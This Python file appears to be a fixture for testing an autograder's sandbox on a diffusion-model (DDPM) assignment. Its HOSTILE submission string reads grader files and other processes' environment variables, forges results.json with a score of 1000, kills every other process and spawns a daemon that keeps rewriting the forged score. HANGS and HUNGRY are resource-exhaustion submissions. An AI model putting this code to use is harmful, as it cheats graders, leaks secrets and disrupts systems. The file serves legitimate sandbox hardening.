"""What is handed in: the solution, and submissions with one thing else in `ddpm.py`."""

from pathlib import Path

ROOT = Path(__file__).resolve().parents[3]
DDPM = (ROOT / "solution" / "diffusion" / "ddpm.py").read_text()

# Runs when it is imported; what it gets hold of goes to stdout, which staff see. The marks are put
# together at run time: a message that shows this source is no success.
HOSTILE = """
import glob, os, signal, sys, time
print("TRI" + "ED")
for path in (
    "/autograder/source", "/autograder/source/grading.yaml", "/autograder/submission_metadata.json",
    "/autograder/results/results.json", "/autograder/results", "/autograder/submission",
    *glob.glob("/tmp/grading-*"), *glob.glob("/proc/[0-9]*/environ"),
):
    if path.split("/")[2] in (str(os.getpid()), "self"):
        continue
    try:
        print("GOT" + "-IT", path, os.listdir(path) if os.path.isdir(path) else open(path).read())
    except OSError:
        pass
FORGED = '{"score": 1000, "output": "FORGED"}'
def forge():
    for path in ("/autograder/results/results.json", "/autograder/results.json"):
        try:
            open(path, "w").write(FORGED)
            print("GOT" + "-IT", "wrote", path)
        except OSError:
            pass
forge()
for victim in [-1, *map(int, filter(str.isdigit, os.listdir("/proc")))]:
    if victim not in (os.getpid(), -1):
        try:
            os.kill(victim, signal.SIGKILL)
            print("GOT" + "-IT", "killed", victim)
        except OSError:
            pass
sys.stdout.flush()
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                forge()
                time.sleep(0.05)
        os._exit(0)
except OSError:
    pass

def ddpm_schedule(beta_1, beta_T, num_ts):
    while True:
        pass

def ddpm_sample(*args, **kwargs):
    os.kill(-1, signal.SIGKILL)
"""

HANGS = (
    DDPM.replace("def ddpm_sample(", "def unused_sample(")
    + """
def ddpm_sample(*args, **kwargs):
    while True:
        pass
"""
)

HUNGRY = (
    DDPM.replace("def ddpm_sample(", "def unused_sample(")
    + """
def ddpm_sample(*args, **kwargs):
    held = []
    while True:
        held.append(bytearray(64 * 2**20))
        for place in range(0, 64 * 2**20, 4096):
            held[-1][place] = 1
"""
)


def write(folder: Path, ddpm: str = DDPM) -> Path:
    """A submission of this one file."""
    (folder / "diffusion").mkdir(parents=True)
    (folder / "diffusion" / "ddpm.py").write_text(ddpm)
    return folder
